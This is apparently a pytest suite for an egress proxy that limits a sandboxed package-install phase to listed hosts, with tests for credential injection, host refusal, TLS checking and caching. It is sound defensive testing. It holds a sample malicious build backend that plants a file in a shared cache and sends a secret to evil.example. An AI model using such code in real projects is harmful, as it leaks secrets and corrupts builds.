"""The set-up phase reaches package hosts through the proxy, and nothing else."""

from __future__ import annotations

import os
import shutil
import ssl
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from bot.workspace.container import Container
from bot.workspace.egress.artifacts import Artifacts
from bot.workspace.egress.certificates import Authority
from bot.workspace.egress.proxy import Origin, Rules, basic
from bot.workspace.egress.way_out import WayOut
from bot.workspace.environment import EnvironmentFailed, Environments
from bot.workspace.interpreter import available
from bot.workspace.package_index import PackageIndex
from bot.workspace.project import plan_for
from bot.workspace.sandbox import Run, Sandbox, SandboxUnavailable
from tests.workspace.conftest import Project

# Fetches addresses and says what came: `GET http://host/path [HEADER=VALUE | BODY]`, one a line.
CLIENT = """
import http.client, os, sys, urllib.error, urllib.request
os.environ.pop("no_proxy"), os.environ.pop("NO_PROXY")  # the hosts of these tests are on loopback
for line in sys.argv[1:]:
    method, url, *more = line.split(" ")
    headers = dict(word.split("=") for word in more if "=" in word)
    body = next((word.encode() for word in more if "=" not in word), None)
    asked = urllib.request.Request(url, method=method, headers=headers, data=body)
    try:
        answer = urllib.request.urlopen(asked, timeout=10)
        print(answer.status, answer.read().decode())
    except urllib.error.HTTPError as problem:
        print(problem.code)
    except (OSError, http.client.HTTPException) as problem:
        print("unreachable", problem)
"""


class Host:
    """A package host on loopback. `asked`: (method, path, headers) that came to it."""

    def __init__(self, secure: ssl.SSLContext | None = None) -> None:
        asked: list[tuple[str, str, dict[str, str]]] = []

        class Answers(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def do_GET(self) -> None:
                asked.append((self.command, self.path, dict(self.headers.items())))
                body = f"file {self.path}".encode()
                self.send_response(200)
                self.send_header("Set-Cookie", "a=b")
                claimed = 100 if "cut-short" in self.path else len(body)
                self.send_header("Content-Length", str(claimed))
                self.end_headers()
                if self.command != "HEAD":
                    self.wfile.write(body)
                self.close_connection = claimed != len(body)

            do_POST = do_HEAD = do_GET

            def log_message(self, *_: object) -> None:
                """Quiet."""

        self.asked = asked
        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Answers)
        if secure:
            self._server.socket = secure.wrap_socket(self._server.socket, server_side=True)
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, args=(0.02,), daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@pytest.fixture
def host() -> Iterator[Host]:
    made = Host()
    yield made
    made.close()


def fetch(way: WayOut, *lines: str) -> Run:
    return way.run([str(available()[0].path), "-c", CLIENT, *lines])


def test_a_listed_host_is_reached_with_the_credentials_that_are_not_inside(
    sandbox: Sandbox, host: Host
) -> None:
    secret = basic("ann", "p%40ss")
    with WayOut(sandbox, Rules({Origin("http", "127.0.0.1", host.port): secret})) as way:
        run = fetch(
            way, f"GET http://127.0.0.1:{host.port}/simple/ Authorization=mine Cookie=c X-Out=data"
        )
        inside = way.run(["sh", "-c", "env; cat /egress/*.pem; ls -a /egress"]).text
    assert run.text == "200 file /simple/\n"
    ((method, path, headers),) = host.asked
    assert (method, path, headers["Authorization"]) == ("GET", "/simple/", secret)
    assert not headers.keys() & {"Cookie", "X-Out", "X-out"}
    assert secret.split()[1] not in inside
    assert "PRIVATE" not in inside


@pytest.fixture
def private_umask() -> Iterator[None]:
    """Nothing that this process makes is for others."""
    before = os.umask(0o077)
    yield
    os.umask(before)


@pytest.mark.usefixtures("private_umask")
def test_an_operators_umask_shuts_no_command_out(sandbox: Sandbox, host: Host) -> None:
    with WayOut(sandbox, Rules({Origin("http", "127.0.0.1", host.port): ""})) as way:
        run = fetch(way, f"GET http://127.0.0.1:{host.port}/simple/")
        seen = way.run(["sh", "-c", "cat /egress/authority.pem && umask"])
    assert run.text == "200 file /simple/\n"
    assert seen.exit_code == 0
    assert seen.text.endswith("\n0022\n")


def test_what_is_not_listed_is_refused_and_told_with_the_command(
    sandbox: Sandbox, host: Host
) -> None:
    with WayOut(sandbox, Rules({Origin("http", "127.0.0.1", host.port): ""})) as way:
        here = f"http://127.0.0.1:{host.port}"
        run = fetch(
            way,
            "GET http://elsewhere.example/x",
            "GET https://elsewhere.example/x",
            f"POST {here}/upload stolen",
            f"GET {here}/body stolen",
            f"GET {here}/{'x' * 3000}",
            f"GET http://127.0.0.1:{host.port + 1}/",
        )
        refused = [one.host for one in way.refusals]
        commands = {one.command.split()[0] for one in way.refusals}
    assert run.text.split("\n")[0] == "403"
    assert "200" not in run.text
    assert host.asked == []
    assert refused == [
        "elsewhere.example:80", "elsewhere.example:443", f"POST 127.0.0.1:{host.port}",
        f"a body for 127.0.0.1:{host.port}", f"a long address of 127.0.0.1:{host.port}",
        f"127.0.0.1:{host.port + 1}",
    ]  # fmt: skip
    assert commands == {available()[0].path.name}


def test_the_proxy_is_reached_from_a_container_too(host: Host) -> None:
    try:
        container = Container.find()
    except SandboxUnavailable as problem:
        pytest.skip(str(problem))
    if not all(one.ok for one in container.check()):
        pytest.skip("containers do not run here")
    with WayOut(container, Rules({Origin("http", "127.0.0.1", host.port): ""})) as way:
        run = fetch(way, f"GET http://127.0.0.1:{host.port}/x", "GET http://elsewhere.example/")
    assert run.text == "200 file /x\n403\n"


def test_there_is_no_other_way_out_than_the_proxy(sandbox: Sandbox, host: Host) -> None:
    direct = f"import socket; socket.create_connection(('127.0.0.1', {host.port}), 2)"
    with WayOut(sandbox, Rules({Origin("http", "127.0.0.1", host.port): ""})) as way:
        run = way.run([str(available()[0].path), "-c", direct])
    assert "Connection refused" in run.text
    assert host.asked == []


def test_tls_ends_at_the_proxy_and_begins_again_with_the_real_host_checked(
    sandbox: Sandbox, tmp_path: Path
) -> None:
    authority = Authority(tmp_path)
    known = Host(authority.context("localhost"))
    rules = Rules({Origin("https", "localhost", known.port): "Bearer token"})
    lines = f"GET https://localhost:{known.port}/x.whl", f"HEAD https://localhost:{known.port}/y"
    try:
        with WayOut(sandbox, rules) as way:
            assert fetch(way, lines[0]).text == "502\n", "a stranger's certificate was accepted"
            way.trust(authority.pem.decode())
            run = fetch(way, *lines)
        assert run.text == "200 file /x.whl\n200 \n"
        assert {headers["Authorization"] for _, _, headers in known.asked} == {"Bearer token"}
    finally:
        known.close()


def test_a_package_file_is_fetched_once_and_kept_out_of_reach(
    sandbox: Sandbox, host: Host, tmp_path: Path
) -> None:
    artifacts = Artifacts(tmp_path / "artifacts")
    rules = Rules({Origin("http", "127.0.0.1", host.port): ""})
    here = f"http://127.0.0.1:{host.port}"
    for _ in range(2):
        with WayOut(sandbox, rules, artifacts) as way:
            run = fetch(
                way, f"GET {here}/a-1.whl", f"GET {here}/simple/", f"GET {here}/cut-short.whl"
            )
        assert run.text.startswith("200 file /a-1.whl\n200 file /simple/\n")
    paths = [path for _, path, _ in host.asked]
    assert paths.count("/a-1.whl") == 1
    assert paths.count("/simple/") == paths.count("/cut-short.whl") == 2
    assert len(list(artifacts.folder.iterdir())) == 1
    Artifacts(artifacts.folder, limit=0).tidy()
    assert list(artifacts.folder.iterdir()) == []


HOSTILE = (
    "import os, urllib.request\n"
    "for name in os.listdir('/cache'):\n    print('cache holds', name)\n"
    "open('/cache/planted', 'w').close()\n"
    "try:\n    urllib.request.urlopen('https://evil.example/?' + 'secret')\n"
    "except OSError as problem:\n    print(problem)\n"
    "raise SystemExit('build ended')\n"
)


def test_a_builds_refusals_are_told_and_it_leaves_nothing_for_the_next(
    project: Project, sandbox: Sandbox
) -> None:
    pyproject = (
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "thing"\nversion = "1"\n'
    )
    files = {"pyproject.toml": pyproject, "backend.py": HOSTILE, "test_x.py": ""}
    environments = Environments(
        project.root / "environments", project.mirror, project.pool(sandbox), sandbox
    )
    for number in range(2):
        commit = project.commit({**files, "setup.cfg": f"# {number}\n"})
        with pytest.raises(EnvironmentFailed) as failed:
            environments.prepare(plan_for(project.mirror, commit), commit)
        assert "planted" not in failed.value.tail
        assert [one.host for one in failed.value.refused] == ["evil.example:443"]
        assert failed.value.refused[0].command.startswith("uv pip install")
    assert list((project.root / "environments").rglob("planted")) == []


@pytest.mark.network
@pytest.mark.skipif(shutil.which("npm", path="/usr/bin") is None, reason="no npm under /usr")
def test_npm_and_pip_install_through_the_proxy(
    project: Project, sandbox: Sandbox, tree: Path
) -> None:
    index = PackageIndex.of(os.environ)
    python = available()[0]
    with WayOut(sandbox, index.rules) as way:
        run = way.run(
            ["npm", "install", "--ignore-scripts", "--no-audit", "--no-fund", "is-number@7.0.0"],
            tree=tree,
            env=index.env,
        )
        assert run.ok, run.text
        made = subprocess.run(
            [python.path, "-m", "pip", "--version"], capture_output=True, check=False
        )
        if made.returncode == 0:
            run = way.run(
                [str(python.path), "-m", "pip", "download", "--no-deps", "-d", ".", "six==1.16.0"],
                tree=tree,
                env=index.env,
            )
            assert run.ok, run.text
            assert list(tree.glob("six-*"))
    assert (tree / "node_modules/is-number/package.json").exists()
